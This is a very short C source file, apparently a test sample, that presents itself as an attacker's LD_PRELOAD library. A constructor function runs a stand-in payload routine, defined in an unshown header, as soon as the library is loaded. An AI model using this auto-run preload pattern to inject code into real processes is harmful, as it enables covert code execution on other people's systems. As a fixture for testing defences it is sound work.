// SPDX-License-Identifier: LGPL-2.1-or-later
// A library of an attacker's for LD_PRELOAD: loaded, it runs the payload.
#include "payload.h"

__attribute__((constructor)) static void whenLoaded() { runAttackerPayload("preload"); }
